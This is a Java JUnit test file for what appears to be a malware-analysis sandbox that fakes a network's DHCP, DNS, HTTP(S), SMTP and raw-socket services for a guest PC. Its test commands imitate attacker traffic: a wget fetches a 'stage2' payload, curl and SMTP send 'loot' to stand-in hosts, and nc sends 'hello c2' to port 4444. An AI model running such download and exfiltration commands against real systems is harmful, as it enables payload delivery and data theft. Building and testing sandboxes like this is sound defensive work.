package org.tsurutus.network.answer;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.InstantSource;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tsurutus.network.endpoint.DhcpLease;
import org.tsurutus.network.endpoint.LanPlan;
import org.tsurutus.network.lan.FrameTap;
import org.tsurutus.network.lan.Lan;
import org.tsurutus.network.packet.Ipv4Address;
import org.tsurutus.network.packet.MacAddress;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// What a real PC, with nothing but a network card, hears from the simulated network.
@Tag("guest")
class AnswersToARealPcTest {
    private static final MacAddress MAC = MacAddress.parse("52:54:00:00:00:11");
    private static final LanPlan PLAN =
            new LanPlan(
                    Ipv4Address.parse("10.77.0.1"),
                    24,
                    List.of(new DhcpLease(MAC, "SALES-1", Ipv4Address.parse("10.77.0.11"))));
    private static final byte[] PAYLOAD = payload();

    @TempDir static Path folder;
    private static Lan lan;
    private static Answers answers;
    private static LanGuest pc;

    private static byte[] payload() {
        byte[] payload = new byte[3_000_000];
        new Random(7).nextBytes(payload);
        return payload;
    }

    @BeforeAll
    static void start() throws Exception {
        Files.write(folder.resolve("stage2.bin"), PAYLOAD);
        Files.writeString(
                folder.resolve("script.toml"),
                """
                [[answer]]
                host = "*.cdn.example"
                path = "/stage/*"
                headers = { Content-Type = "application/octet-stream" }
                body = "stage2.bin"
                """);
        lan = Lan.open("office", FrameTap.NONE);
        Path authority = folder.resolve("authority");
        answers =
                Answers.start(
                        lan,
                        PLAN,
                        AnswerScript.read(folder.resolve("script.toml")),
                        CertificateAuthority.open(authority, InstantSource.system()),
                        folder.resolve("net"),
                        InstantSource.system());
        lan.listen("SALES-1", MAC, folder.resolve("pc.socket"));
        pc = LanGuest.start(folder, folder.resolve("pc.socket"), MAC);
        pc.run("udhcpc -i eth0 -n -q -s /dhcp");
        give(authority, "/etc/authority.pem");
        CertificateAuthority.open(folder.resolve("other"), InstantSource.system());
        give(folder.resolve("other"), "/etc/other.pem");
    }

    private static void give(Path authority, String file) throws IOException {
        String pem = Files.readString(authority.resolve(CertificateAuthority.CERTIFICATE));
        pc.run("printf '" + pem.replace("\n", "\\n") + "' > " + file);
    }

    @AfterAll
    static void end() throws IOException {
        pc.close();
        answers.close();
        lan.close();
    }

    @Test
    void itGetsTheAddressOfItsLease() throws Exception {
        assertThat(pc.run("ip addr show eth0")).contains("10.77.0.11/24");
        assertThat(pc.run("ip route")).contains("default via 10.77.0.1");
        assertThat(pc.run("hostname")).contains("SALES-1");
        assertThat(lines("dhcp"))
                .anySatisfy(line -> {
                    assertThat(line.get("answered").asString()).isEqualTo("ack 10.77.0.11");
                    assertThat(line.get("pc").asString()).isEqualTo("SALES-1");
                });
    }

    @Test
    void everyNameHasAnAddressThatIsAlwaysTheSame() throws Exception {
        String said = pc.run("nslookup update.evil.example");
        assertThat(said).containsPattern("Address: 198\\.1[89]\\.");
        String address =
                said.substring(said.lastIndexOf("Address: ") + 9)
                        .strip()
                        .lines()
                        .findFirst()
                        .orElseThrow();
        assertThat(pc.run("nslookup UPDATE.evil.example 10.77.0.1")).contains(address);
        assertThat(pc.run("nslookup " + address)).contains("update.evil.example");
        assertThat(pc.run("nslookup -type=mx evil.example")).contains("mail exchanger = 10");
        assertThat(pc.run("nslookup another.example 8.8.8.8")).containsPattern("198\\.1[89]\\.");
    }

    @Test
    void whateverItPingsAnswers() throws Exception {
        assertThat(pc.run("ping -c 2 -W 5 10.77.0.1")).contains("2 packets received");
        assertThat(pc.run("ping -c 1 -s 1400 -W 5 203.0.113.9")).contains("1 packets received");
        assertThat(lines("ping"))
                .anySatisfy(
                        line -> assertThat(line.get("server").asString()).isEqualTo("203.0.113.9"));
    }

    @Test
    void aDownloaderGetsThePayloadOfTheScript() throws Exception {
        pc.run("wget -q -O /tmp/stage2 http://a.cdn.example/stage/2?x=1");
        assertThat(pc.run("sha256sum /tmp/stage2")).startsWith(sha256(PAYLOAD));
        assertThat(pc.run("wget -q -O - http://elsewhere.example/")).contains("<title>OK</title>");
        assertThat(lines("http"))
                .anySatisfy(line -> {
                    assertThat(line.path("name").asString("")).isEqualTo("a.cdn.example");
                    assertThat(line.get("answered").asString())
                            .isEqualTo("200, script: stage2.bin");
                });
    }

    @Test
    void itsUploadsAreKept() throws Exception {
        pc.run("head -c 700000 /dev/zero | tr '\\0' x > /tmp/loot");
        pc.run("curl -s --data-binary @/tmp/loot http://drop.example/up");
        pc.run(
                "curl -s -H 'Transfer-Encoding: chunked' --data-binary @/tmp/loot http://drop.example/chunks");
        byte[] loot = "x".repeat(700_000).getBytes();
        for (String path : List.of("/up", "/chunks")) {
            assertThat(lines("http"))
                    .filteredOn(line -> line.get("asked").asString().equals("POST " + path))
                    .singleElement()
                    .satisfies(line -> {
                        JsonNode received = line.get("received");
                        assertThat(received.get("sha256").asString()).isEqualTo(sha256(loot));
                        assertThat(folder.resolve("net").resolve(received.get("file").asString()))
                                .hasBinaryContent(loot);
                    });
        }
    }

    @Test
    void itBelievesTheCertificateOfAnyName() throws Exception {
        assertThat(pc.run("curl -s -S --cacert /etc/authority.pem https://bank.example/login"))
                .contains("OK");
        assertThat(pc.run("curl -s -S --cacert /etc/authority.pem https://bank.example:8443/"))
                .contains("OK");
        assertThat(
                        pc.run(
                                "curl -s -S --tls-max 1.2 --cacert /etc/authority.pem https://203.0.113.4/"))
                .contains("OK");
        pc.run(
                "curl -s -S --cacert /etc/authority.pem -o /tmp/secret https://x.cdn.example/stage/1");
        assertThat(pc.run("sha256sum /tmp/secret")).startsWith(sha256(PAYLOAD));
        assertThat(pc.attempt("curl -s -S --cacert /etc/other.pem https://doubted.example/").code())
                .isEqualTo(60);
        assertThat(lines("https"))
                .anySatisfy(line -> {
                    assertThat(line.path("name").asString("")).isEqualTo("bank.example");
                    assertThat(line.get("asked").asString()).isEqualTo("GET /login");
                });
        assertThat(lines("tls"))
                .anySatisfy(line -> {
                    assertThat(line.path("name").asString("")).isEqualTo("doubted.example");
                    assertThat(line.get("answered").asString()).startsWith("broke off");
                });
    }

    @Test
    void itsMailIsTakenAndKept() throws Exception {
        pc.run("printf 'Subject: loot\\r\\n\\r\\nsecret\\r\\n' > /tmp/mail");
        String common =
                " --mail-from a@b.example --mail-rcpt c@d.example -T /tmp/mail --user bot:pass123";
        pc.run("curl -s -S smtp://smtp.example:25" + common);
        pc.run(
                "curl -s -S --ssl-reqd --cacert /etc/authority.pem smtp://smtp.example:587"
                        + common);
        pc.run("curl -s -S --cacert /etc/authority.pem smtps://smtp.example:465" + common);
        assertThat(lines("smtp").stream().map(line -> line.get("asked").asString()))
                .filteredOn(asked -> asked.equals("AUTH PLAIN bot pass123"))
                .hasSize(3);
        assertThat(lines("smtp"))
                .filteredOn(line -> line.get("asked").asString().startsWith("MAIL FROM:<a@b"))
                .hasSize(3)
                .allSatisfy(line ->
                        assertThat(
                                        folder.resolve("net")
                                                .resolve(
                                                        line.get("received")
                                                                .get("file")
                                                                .asString()))
                                .content()
                                .isEqualTo("Subject: loot\r\n\r\nsecret\r\n"));
    }

    @Test
    void whatNobodyKnowsIsAcceptedAndKept() throws Exception {
        pc.run("printf 'hello c2 \\001\\002' | nc -w 5 198.51.100.3 4444");
        pc.run("curl -s -m 2 tftp://198.51.100.3:5555/beacon || true");
        pc.run("echo raw in tls > /tmp/raw");
        String said =
                pc.run(
                        "timeout 4 openssl s_client -quiet -connect 198.51.100.3:9443 < /tmp/raw 2>&1 || true");
        assertThat(lines("tcp"))
                .anySatisfy(line -> {
                    assertThat(line.get("serverPort").asInt()).isEqualTo(4444);
                    assertThat(line.get("received").get("bytes").asInt()).isEqualTo(11);
                });
        assertThat(lines("udp"))
                .anySatisfy(line -> assertThat(line.get("asked").asString()).contains("beacon"));
        assertThat(lines("tls-data"))
                .as(said)
                .anySatisfy(
                        line -> assertThat(line.get("asked").asString()).contains("raw in tls"));
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    /// The lines about a protocol, as soon as they are in the file.
    private static List<JsonNode> lines(String protocol) throws Exception {
        Thread.sleep(1500);
        JsonMapper mapper = new JsonMapper();
        return Files.readAllLines(folder.resolve("net/answers.jsonl")).stream()
                .map(mapper::readTree)
                .filter(line -> line.get("protocol").asString().equals(protocol))
                .toList();
    }
}
